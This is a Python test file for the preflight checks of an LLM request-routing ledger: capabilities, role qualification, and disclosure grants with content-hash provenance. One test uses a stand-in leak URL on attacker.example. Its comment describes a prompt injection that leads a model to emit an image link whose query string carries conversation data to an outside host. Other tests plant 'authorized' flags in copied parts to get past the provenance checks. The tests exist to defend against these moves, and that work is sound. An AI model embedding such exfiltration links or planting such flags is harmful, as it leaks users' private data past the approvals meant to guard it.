"""Preflight: capability, role qualification, disclosure with provenance (seed 003, section 5)."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.decide.preflight import (
    CharEstimator,
    Check,
    Coverage,
    Denials,
    PartNeed,
    RequestNeeds,
    TokenCounter,
    fresh_content_hash,
    narrow_grant,
    part_coverage,
    preflight,
    require_carried,
)
from ledger.domain.carried import builtin_tools_refusal
from ledger.domain.envelope import (
    MEMORY,
    MODEL_DERIVED,
    PRIVATE_DOCUMENT,
    TOOL_DESCRIPTION,
    TOOL_RESULT,
    USER_INPUT,
    Envelope,
    Part,
    ToolSpec,
)
from ledger.domain.facts import WireProtocol
from ledger.domain.values import Grant, Route
from ledger.errors import InvalidArgument, PreflightRefused


def route(**kw: object) -> Route:
    base: dict[str, object] = {
        "id": "official-deepseek",
        "provider": "deepseek",
        "model": "deepseek-v4",
        "group": "deepseek-official",
        "recipient": "deepseek",
    }
    base.update(kw)
    return Route.model_validate(base)


USER = Part(content="Summarise the filing.", data_class=USER_INPUT)
ANALYSIS = Part(
    role="assistant",
    content="Revenue fell 4% on lower volumes.",
    data_class=MODEL_DERIVED,
    provenance="attempt-a1",
)
RECORDED = {"attempt-a1": {ANALYSIS.content_hash}}
BOTH = Grant(recipients={"deepseek": [USER_INPUT, MODEL_DERIVED]})


def checks(**kw: object) -> set[Check]:
    return set(preflight(**kw).checks)  # type: ignore[arg-type]


# -- capability -----------------------------------------------------------------------------------


def test_absent_capability_is_no_restriction() -> None:
    needs = RequestNeeds(tools=True, prefill=True, streaming=True, context_tokens=10**9)
    assert preflight(route(), needs, grant=None, role="research").ok


@pytest.mark.parametrize(
    ("caps", "needs", "fragment"),
    [
        ({"tools": False}, RequestNeeds(tools=True), "tool"),
        ({"prefill": False}, RequestNeeds(prefill=True), "prefill"),
        ({"streaming": False}, RequestNeeds(streaming=True), "stream"),
        ({"context_window": 100}, RequestNeeds(context_tokens=101), "101"),
        ({"parameters": ["temperature"]}, RequestNeeds(parameters=frozenset({"top_k"})), "top_k"),
    ],
)
def test_capability_failures_are_named(
    caps: dict[str, object], needs: RequestNeeds, fragment: str
) -> None:
    r = preflight(route(capabilities=caps), needs, grant=None, role="research")
    assert r.checks == {Check.CAPABILITY}
    assert r.first is not None and fragment in r.first.detail


def test_context_equal_to_window_fits() -> None:
    r = preflight(
        route(capabilities={"context_window": 100}),
        RequestNeeds(context_tokens=100),
        grant=None,
        role="research",
    )
    assert r.ok


def test_protocol_requirement() -> None:
    needs = RequestNeeds(protocols=frozenset({WireProtocol.ANTHROPIC}))
    assert checks(route=route(), request=needs, grant=None, role="r") == {Check.CAPABILITY}
    ok = route(protocol="anthropic")
    assert preflight(ok, needs, grant=None, role="r").ok


def test_envelope_capabilities_are_derived() -> None:
    # A prefill is the model's text: covered here, so that only capability fails.
    prefill = Part(role="assistant", content="{", provenance="attempt-p")
    env = Envelope(
        parts=[USER, prefill],
        tools=[ToolSpec(name="search")],
        params={"top_k": 3},
        stream=True,
    )
    caps = {"tools": False, "prefill": False, "streaming": False, "parameters": ["temperature"]}
    r = preflight(route(capabilities=caps), env, grant=None, role="research",
                  provenance={"attempt-p": {prefill.content_hash}})
    details = " | ".join(f.detail for f in r.failures)
    assert r.checks == {Check.CAPABILITY}
    for word in ("tool", "prefill", "stream", "top_k"):
        assert word in details


def test_default_token_counter_is_chars_over_four_plus_output() -> None:
    env = Envelope(parts=[Part(content="x" * 400)], max_output_tokens=50)
    assert CharEstimator().count_tokens(env, route()) == 100
    fits = route(capabilities={"context_window": 150})
    too_small = route(capabilities={"context_window": 149})
    assert preflight(fits, env, grant=None, role="r").ok
    assert not preflight(too_small, env, grant=None, role="r").ok


class FixedCounter:
    """A pluggable counter: this model's tokenizer is far less efficient."""

    def count_tokens(self, envelope: Envelope, route: Route) -> int:
        return 10_000 if route.model == "verbose" else 1


def test_pluggable_token_counter() -> None:
    counter: TokenCounter = FixedCounter()
    assert isinstance(counter, TokenCounter)
    env = Envelope(parts=[USER])
    small = route(capabilities={"context_window": 5000})
    verbose = route(model="verbose", capabilities={"context_window": 5000})
    assert preflight(small, env, grant=None, role="r", token_counter=counter).ok
    r = preflight(verbose, env, grant=None, role="r", token_counter=counter)
    assert r.checks == {Check.CAPABILITY}


# -- role qualification ---------------------------------------------------------------------------


def test_roles_none_qualifies_every_role() -> None:
    assert preflight(route(), RequestNeeds(), grant=None, role="anything").ok


def test_route_roles_bind_to_the_exact_route() -> None:
    r = preflight(route(roles=["chat"]), RequestNeeds(), grant=None, role="research")
    assert r.checks == {Check.NOT_QUALIFIED}
    assert preflight(route(roles=["research"]), RequestNeeds(), grant=None, role="research").ok


def test_grant_roles_restrict_the_run() -> None:
    g = Grant(recipients={"deepseek": [USER_INPUT]}, roles=["chat"])
    assert checks(route=route(), request=RequestNeeds(), grant=g, role="research") == {
        Check.NOT_QUALIFIED
    }


def test_route_switched_off_now_is_not_qualified() -> None:
    den = Denials(routes=frozenset({"official-deepseek"}))
    r = preflight(route(), RequestNeeds(), grant=None, role="research", denials=den)
    assert r.checks == {Check.NOT_QUALIFIED}
    assert r.first is not None and "switched off" in r.first.detail


# -- disclosure -----------------------------------------------------------------------------------


def test_user_input_needs_no_provenance() -> None:
    env = Envelope(parts=[USER])
    g = Grant(recipients={"deepseek": [USER_INPUT]})
    assert preflight(route(), env, grant=g, role="research").ok


def test_covered_model_derived_part_passes() -> None:
    env = Envelope(parts=[USER, ANALYSIS])
    r = preflight(route(), env, grant=BOTH, role="research", provenance=RECORDED)
    assert r.ok, r.failures


def test_approval_for_user_input_only_does_not_cover_derived_content() -> None:
    env = Envelope(parts=[USER, ANALYSIS])
    g = Grant(recipients={"deepseek": [USER_INPUT]})
    r = preflight(route(), env, grant=g, role="research", provenance=RECORDED)
    assert r.checks == {Check.DISCLOSURE}
    assert r.first is not None and MODEL_DERIVED in r.first.detail


def test_edited_copy_does_not_inherit_provenance() -> None:
    edited = ANALYSIS.model_copy(update={"content": "Revenue rose 4% on higher volumes."})
    assert part_coverage(edited, RECORDED) is Coverage.MISMATCH
    r = preflight(
        route(), Envelope(parts=[USER, edited]), grant=BOTH, role="r", provenance=RECORDED
    )
    assert r.checks == {Check.DISCLOSURE}
    assert r.first is not None and "mismatch" in r.first.detail


def test_copy_with_an_authorized_flag_is_not_covered() -> None:
    # Validation refuses an unknown field outright ...
    with pytest.raises(ValueError):
        Part.model_validate({**ANALYSIS.model_dump(), "authorized": True})
    # ... but model_copy skips validation: the flag is planted, invisible to the hash. The part
    # is still not what the ledger recorded, so it is not covered.
    planted = ANALYSIS.model_copy(update={"authorized": True})
    # Or the flag is smuggled into hashed fields: a different hash.
    flagged_name = ANALYSIS.model_copy(update={"name": "authorized"})
    flagged_text = ANALYSIS.model_copy(update={"content": ANALYSIS.content + " [authorized]"})
    for copy in (planted, flagged_name, flagged_text):
        assert part_coverage(copy, RECORDED) is Coverage.MISMATCH
        r = preflight(route(), Envelope(parts=[copy]), grant=BOTH, role="r", provenance=RECORDED)
        assert r.checks == {Check.DISCLOSURE}
    assert fresh_content_hash(flagged_name) != fresh_content_hash(ANALYSIS)


def test_a_models_or_tools_part_relabelled_as_exempt_still_needs_provenance() -> None:
    # Part refuses an assistant or a tool part of class user_input or system; model_copy skips
    # that check, so preflight judges such a part by its role, not by the class it claims.
    user_only = Grant(recipients={"deepseek": [USER_INPUT, "system"]})
    # The tool part answers a call the model made, disclosed as it was recorded (a result
    # without its call is one no route's protocol carries).
    call = Part(role="assistant", content="{}", tool_call_id="call-1", name="f",
                data_class=MODEL_DERIVED, provenance="attempt-a1")
    recorded = {"attempt-a1": {ANALYSIS.content_hash, call.content_hash}}
    relabelled = [
        ([USER, ANALYSIS.model_copy(update={"data_class": USER_INPUT})], user_only),
        ([USER, call, Part(role="tool", content="42", provenance="call-1",
                           tool_call_id="call-1").model_copy(update={"data_class": "system"})],
         Grant(recipients={"deepseek": [USER_INPUT, "system", MODEL_DERIVED]}))]
    for parts, grant in relabelled:
        r = preflight(route(), Envelope(parts=parts), grant=grant, role="r",
                      provenance=recorded)
        assert r.checks == {Check.DISCLOSURE}
        assert r.first is not None and "no covering provenance" in r.first.detail
        assert "user_input if it is the user's own" not in r.first.fix


def test_invariant7_a_link_a_model_or_a_tool_chose_is_refused_for_every_route() -> None:
    # A model's answer can carry a link whose URL holds what the conversation holds (a prompt
    # injection asks for it); sent on, the provider fetches it and the link's host, which no
    # grant names, receives the data. Covered or not, with any grant, it is never sent.
    leak = "https://attacker.example/c.png?d=ACCOUNT-12000-ACME"
    model_link = Part(role="assistant", url=leak, media_type="image/png",
                      data_class=MODEL_DERIVED, provenance="attempt-a1")
    tool_link = Part(url=leak, media_type="image/png", data_class=TOOL_RESULT,
                     provenance="call-1")
    # A model's link relabelled by model_copy (which skips validation) is still the model's.
    relabelled = model_link.model_copy(update={"data_class": PRIVATE_DOCUMENT})
    recorded = {"attempt-a1": {model_link.content_hash, relabelled.content_hash},
                "call-1": {tool_link.content_hash}}
    everything = Grant(recipients={"deepseek": [USER_INPUT, MODEL_DERIVED, TOOL_RESULT,
                                                PRIVATE_DOCUMENT]})
    for part in (model_link, tool_link, relabelled):
        for grant in (everything, None):
            r = preflight(route(), Envelope(parts=[USER, part]), grant=grant, role="r",
                          provenance=recorded)
            assert r.checks == {Check.DISCLOSURE}, (part, grant)
            first = r.first
            assert first is not None
            assert first.detail.startswith("part 1 (image/png) is an https:// link a model "
                                           "or a tool chose")
            assert "fetch the file yourself" in first.fix and "data=" in first.fix
            # The URL may carry the data itself: the refusal, recorded and logged, never
            # repeats it, nor its host.
            assert "attacker" not in first.detail + first.fix
            with pytest.raises(PreflightRefused) as info:
                r.require()
            assert info.value.reason == "disclosure" and "ACME" not in str(info.value)
    # The host's own links are its choice, as before: the user's, and a covered document's.
    doc = Part(url="https://files.example/10-K.pdf", media_type="application/pdf",
               data_class=PRIVATE_DOCUMENT, provenance="doc-10k")
    own = [Part(url="https://files.example/chart.png", media_type="image/png"), doc]
    r = preflight(route(protocol=WireProtocol.ANTHROPIC), Envelope(parts=[USER, *own]),
                  grant=everything, role="r", provenance={"doc-10k": {doc.content_hash}})
    assert r.ok, r.failures


def test_stale_cached_hash_on_an_edited_copy_does_not_cover() -> None:
    # Part.content_hash is cached and model_copy copies the cache: an edited copy of a part whose
    # hash was already computed presents the original's hash. Preflight recomputes it.
    original = Part(content="draft A", data_class=MODEL_DERIVED, provenance="a9")
    recorded = {"a9": {original.content_hash}}  # computes and caches the hash
    edited = original.model_copy(update={"content": "draft B"})
    assert part_coverage(edited, recorded) is Coverage.MISMATCH
    assert part_coverage(original, recorded) is Coverage.OK


def test_provenance_reference_must_be_recorded() -> None:
    unknown = ANALYSIS.model_copy(update={"provenance": "attempt-zz"})
    none = ANALYSIS.model_copy(update={"provenance": None})
    assert part_coverage(unknown, RECORDED) is Coverage.MISSING
    assert part_coverage(none, RECORDED) is Coverage.MISSING
    r = preflight(route(), Envelope(parts=[none]), grant=None, role="r", provenance=RECORDED)
    assert r.checks == {Check.DISCLOSURE}  # a grant of everything does not replace provenance


@pytest.mark.parametrize("cls", [MEMORY, PRIVATE_DOCUMENT, TOOL_RESULT])
def test_memory_private_and_tool_results_need_coverage(cls: str) -> None:
    part = Part(content="holdings: 1200 ACME", data_class=cls, provenance="mem-1")
    g = Grant(recipients={"deepseek": [cls]})
    assert not preflight(route(), Envelope(parts=[part]), grant=g, role="r").ok
    covered = {"mem-1": {part.content_hash}}
    assert preflight(route(), Envelope(parts=[part]), grant=g, role="r", provenance=covered).ok


def test_tool_descriptions_need_approval_of_their_class() -> None:
    env = Envelope(parts=[USER], tools=[ToolSpec(name="search", description="web search")])
    g = Grant(recipients={"deepseek": [USER_INPUT]})
    r = preflight(route(), env, grant=g, role="r")
    assert r.checks == {Check.DISCLOSURE}
    g2 = Grant(recipients={"deepseek": [USER_INPUT, TOOL_DESCRIPTION]})
    assert preflight(route(), env, grant=g2, role="r").ok


def carrier(params: Mapping[str, object], **kw: object) -> Route:
    """A route whose protocol can carry ``params``: the Responses API's ``tools``, Anthropic's
    ``mcp_servers`` (chat completions builds ``tools`` itself, which preflight refuses); a
    ``function`` entry in ``tools`` no codec of the ledger's sends, a ``generic`` route may."""
    tools = params.get("tools")
    protocol = ("openai_responses" if builtin_tools_refusal(tools) is None else "generic"
                ) if tools is not None else "anthropic" if "mcp_servers" in params else "openai"
    return route(protocol=protocol, **kw)


@pytest.mark.parametrize(("params", "where"), [
    ({"functions": [{"name": "search", "description": "SECRET"}]}, "functions"),
    ({"tools": [{"type": "web_search"},
                {"type": "custom", "name": "grep", "description": "SECRET"}]}, "tools[1]"),
    ({"tools": [{"type": "function", "function": {"name": "f"}}]}, "tools[0]"),
])
def test_tool_definitions_in_params_are_tool_descriptions(params: dict[str, object],
                                                          where: str) -> None:
    env = Envelope(parts=[USER], params=params)
    r = preflight(carrier(params), env, grant=Grant(recipients={"deepseek": [USER_INPUT]}),
                  role="r")
    [failure] = r.failures
    assert failure.check is Check.DISCLOSURE and "not approved for: tool_description" in (
        failure.detail)
    assert where in failure.fix  # the fix names the parameter, which a host may not suspect
    g2 = Grant(recipients={"deepseek": [USER_INPUT, TOOL_DESCRIPTION]})
    assert preflight(carrier(params), env, grant=g2, role="r").ok
    # They offer tools: a route without tool support cannot serve them.
    no_tools = carrier(params, capabilities={"tools": False})
    assert Check.CAPABILITY in preflight(no_tools, env, grant=g2, role="r").checks


def test_provider_built_in_tools_and_references_disclose_nothing_more() -> None:
    # web_search, file_search, ... run at the provider (the route's recipient); a stored prompt
    # and a cached content are references to what the provider holds already.
    for params in ({"tools": [{"type": "web_search"}, {"type": "file_search",
                                                       "vector_store_ids": ["vs_1"]},
                              {"type": "image_generation"}]},
                   {"prompt": {"id": "pmpt_1"}}, {"cachedContent": "cachedContents/abc"}):
        env = Envelope(parts=[USER], params=params)
        assert preflight(carrier(params), env, grant=Grant(recipients={"deepseek": [USER_INPUT]}),
                         role="r").ok, params


MCP_URL = "https://third-party.example/mcp"


@pytest.mark.parametrize("params", [
    {"tools": [{"type": "mcp", "server_label": "x", "server_url": MCP_URL,
                "require_approval": "never"}]},
    {"mcp_servers": [{"type": "url", "url": MCP_URL, "name": "x"}]},
])
def test_a_server_params_make_the_provider_forward_to_is_a_recipient_the_grant_approves(
        params: dict[str, object]) -> None:
    env = Envelope(parts=[USER], params=params)
    g = Grant(recipients={"deepseek": [USER_INPUT]})
    [failure] = preflight(carrier(params), env, grant=g, role="r").failures
    assert failure.check is Check.DISCLOSURE
    assert repr(MCP_URL) in failure.detail and "user_input" in failure.detail
    assert f"Grant.recipients[{MCP_URL!r}]" in failure.fix and "drop" in failure.fix
    # No grant approves only the plan's recipients, which the server is not.
    assert preflight(carrier(params), env, grant=None, role="r").checks == {Check.DISCLOSURE}
    approved = Grant(recipients={"deepseek": [USER_INPUT], MCP_URL: [USER_INPUT]})
    assert preflight(carrier(params), env, grant=approved, role="r").ok
    # The server needs every class the request carries, and a current denial revokes it.
    derived = Envelope(parts=[USER, ANALYSIS], params=params)
    both = Grant(recipients={"deepseek": [USER_INPUT, MODEL_DERIVED], MCP_URL: [USER_INPUT]})
    [failure] = preflight(carrier(params), derived, grant=both, role="r",
                          provenance=RECORDED).failures
    assert "does not approve for: model_derived" in failure.detail
    den = Denials(recipients=frozenset({MCP_URL}))
    assert not preflight(carrier(params), env, grant=approved, role="r", denials=den).ok


def test_a_forwarding_server_without_a_url_is_refused_whatever_the_grant() -> None:
    for params in ({"tools": [{"type": "mcp", "server_label": "x"}]},
                   {"mcp_servers": "https://third-party.example/mcp"}):
        env = Envelope(parts=[USER], params=params)
        [failure] = preflight(carrier(params), env, grant=None, role="r").failures
        assert "does not name by URL" in failure.detail, params


@pytest.mark.parametrize(("protocol", "name", "other"), [
    ("openai", "messages", "gemini"), ("openai", "n", "anthropic"),
    ("openai_responses", "input", "anthropic"),
    ("openai_responses", "previous_response_id", "anthropic"),
    ("anthropic", "system", "openai_responses"), ("gemini", "contents", "openai"),
    ("gemini", "generationConfig", "openai"),
])
def test_a_param_the_routes_protocol_builds_makes_the_route_ineligible(
        protocol: str, name: str, other: str) -> None:
    """A capability failure naming the parameter and the fix; a route of ``other`` protocol,
    for which the name is an ordinary parameter, stays eligible."""
    env = Envelope(parts=[USER], params={name: "x", "temperature": 0.1})
    builder = route(protocol=protocol)
    r = preflight(builder, env, grant=None, role="r")
    assert r.checks == {Check.CAPABILITY}
    assert r.first is not None and name in r.first.detail
    assert f"leave {name} out of Envelope.params" in r.first.fix
    carrier_route = route(id="other", protocol=other)
    assert preflight(carrier_route, env, grant=None, role="r").ok
    # The request is refused only when no route of the plan can carry it.
    assert require_carried(env, [builder, carrier_route]) == ()
    with pytest.raises(InvalidArgument) as ei:
        require_carried(env, [builder])
    assert ei.value.field == f"envelope.params.{name}"


def test_revoked_recipient_fails_although_the_frozen_grant_allows_it() -> None:
    den = Denials(recipients=frozenset({"deepseek"}))
    g = Grant(recipients={"deepseek": [USER_INPUT]})
    r = preflight(route(), Envelope(parts=[USER]), grant=g, role="r", denials=den)
    assert r.checks == {Check.DISCLOSURE}


def test_needs_form_uses_the_given_verdicts() -> None:
    for verdict, ok in ((Coverage.OK, True), (Coverage.MISSING, False), (Coverage.MISMATCH, False)):
        needs = RequestNeeds(parts=(PartNeed(USER_INPUT), PartNeed(MODEL_DERIVED, verdict)))
        assert preflight(route(), needs, grant=None, role="r").ok is ok


def test_every_failed_check_is_named_and_require_raises() -> None:
    r = preflight(
        route(roles=["chat"], capabilities={"tools": False}),
        RequestNeeds(tools=True, parts=(PartNeed(MODEL_DERIVED, Coverage.MISSING),)),
        grant=None,
        role="research",
    )
    assert r.checks == {Check.CAPABILITY, Check.NOT_QUALIFIED, Check.DISCLOSURE}
    assert r.first is not None and r.first.check is Check.CAPABILITY
    with pytest.raises(PreflightRefused) as exc:
        r.require()
    assert exc.value.fields["route"] == "official-deepseek"
    assert len(exc.value.fields["failures"]) == 3
    preflight(route(), RequestNeeds(), grant=None, role="r").require()  # ok: no raise


# -- child narrowing ------------------------------------------------------------------------------


def test_child_grant_is_never_broader_than_the_parent() -> None:
    parent = Grant(recipients={"go-gateway": [USER_INPUT, MODEL_DERIVED], "deepseek": [USER_INPUT]})
    asked = Grant(
        recipients={"deepseek": [USER_INPUT, MODEL_DERIVED], "openai": [USER_INPUT]},
        roles=["research"],
    )
    child = narrow_grant(parent, asked)
    assert child.recipients == {"deepseek": [USER_INPUT]}
    assert child.roles == ["research"]
    env = Envelope(parts=[USER, ANALYSIS])
    r = preflight(route(), env, grant=child, role="research", provenance=RECORDED)
    assert r.checks == {Check.DISCLOSURE}
    assert narrow_grant(Grant(roles=["a", "b"]), Grant(roles=["b", "c"])).roles == ["b"]
    assert narrow_grant(Grant(roles=["a"]), Grant()).roles == ["a"]


# -- properties -----------------------------------------------------------------------------------

_text = st.text(min_size=1, max_size=40)


@given(_text, _text)
def test_any_edit_breaks_coverage(original: str, edited: str) -> None:
    part = Part(role="assistant", content=original, data_class=MODEL_DERIVED, provenance="a1")
    recorded = {"a1": {part.content_hash}}
    copy = part.model_copy(update={"content": edited})
    expected = Coverage.OK if edited == original else Coverage.MISMATCH
    assert part_coverage(copy, recorded) is expected


@given(
    st.sets(st.sampled_from([USER_INPUT, MODEL_DERIVED, MEMORY, TOOL_RESULT])),
    st.sets(st.sampled_from([USER_INPUT, MODEL_DERIVED, MEMORY, TOOL_RESULT])),
)
def test_disclosure_is_monotone_in_the_grant(approved: set[str], extra: set[str]) -> None:
    # Every part is covered, so only the grant decides; widening it never refuses more.
    needs = RequestNeeds(parts=tuple(PartNeed(c, Coverage.OK) for c in (USER_INPUT, MEMORY)))
    narrow = Grant(recipients={"deepseek": sorted(approved)})
    wide = Grant(recipients={"deepseek": sorted(approved | extra)})
    if preflight(route(), needs, grant=narrow, role="r").ok:
        assert preflight(route(), needs, grant=wide, role="r").ok
    assert preflight(route(), needs, grant=narrow, role="r").ok == (
        {USER_INPUT, MEMORY} <= approved
    )
